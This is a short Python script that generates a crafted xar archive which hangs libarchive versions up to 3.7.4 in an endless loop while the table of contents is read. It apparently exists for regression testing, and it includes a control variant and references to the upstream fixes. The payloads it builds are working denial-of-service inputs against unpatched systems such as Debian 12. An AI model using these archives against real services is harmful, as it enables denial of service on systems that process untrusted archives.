#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Writes a tiny xar archive that sends libarchive <= 3.7.4 into an endless loop.

    python3 gen-hang.py OUT.xar [--variant original-twice|link-twice|control]

A xar is a 28-byte big-endian header ("xar!", header size 28, version 1, length of the
zlib-compressed TOC, length of the TOC, checksum algorithm) followed by the zlib-compressed
XML table of contents (and then the heap, which is empty here). With checksum algorithm 0
(none) libarchive checks nothing but the TOC's uncompressed length.

libarchive's xar reader (archive_read_support_format_xar.c, xml_start()) threads hard-linked
files through one pointer, xar_file.hdnext, and trusts each <type link="..."> it sees:

  original-twice (default): one <file> with two <type link="original"> elements. Each one
    pushes the file onto the list of link originals (file->hdnext = xar->hdlink_orgs;
    xar->hdlink_orgs = file), so the second makes file->hdnext == file. read_toc() then walks
    that list ("Connect hardlinked files") for ever, before the first entry is returned.
    Fixed upstream by libarchive PR #2150 ("xar: Fix another infinite loop", 3.7.5).
  link-twice: an original with id 1 and a second <file> with two <type link="1">: add_link()
    pushes the second file twice onto the same hdlink->files list (f->hdnext == f); the walk
    over that list in read_toc() never ends. Fixed upstream by PR #2123 (3.7.4).

Debian 12 ships 3.6.2-1+deb12u5, which has neither fix. The loop is in the TOC reader, so
listing (bsdtar -tf) hangs; it is the same code with libxml2 and with expat.

  control: the first one with a single <type link="original">: a valid xar that lists one
    empty file "a" at once. Tests use it to show that the hang comes from the loop alone.
"""
import struct
import sys
import zlib

XAR_MAGIC = 0x78617221  # "xar!"
HEADER_SIZE = 28
VERSION = 1
CKSUM_NONE = 0

TOCS = {
    "original-twice": (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        "<xar><toc>"
        '<file id="1"><name>a</name>'
        '<type link="original">file</type><type link="original">file</type>'
        "</file>"
        "</toc></xar>\n"
    ),
    "link-twice": (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        "<xar><toc>"
        '<file id="1"><name>a</name><type link="original">file</type></file>'
        '<file id="2"><name>b</name><type link="1">file</type><type link="1">file</type></file>'
        "</toc></xar>\n"
    ),
    # not a hang: the same file with one <type link="original">; lists at once (a control)
    "control": (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        "<xar><toc>"
        '<file id="1"><name>a</name><type link="original">file</type></file>'
        "</toc></xar>\n"
    ),
}


def build(variant):
    toc = TOCS[variant].encode()
    z = zlib.compress(toc)
    header = struct.pack(">IHHQQI", XAR_MAGIC, HEADER_SIZE, VERSION, len(z), len(toc), CKSUM_NONE)
    assert len(header) == HEADER_SIZE
    return header + z


def main(argv):
    args = argv[1:]
    variant = "original-twice"
    if len(args) == 3 and args[1] == "--variant" and args[2] in TOCS:
        variant = args[2]
    elif len(args) != 1:
        sys.stderr.write("usage: gen-hang.py OUT [--variant %s]\n" % "|".join(TOCS))
        return 2
    with open(args[0], "wb") as f:
        f.write(build(variant))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
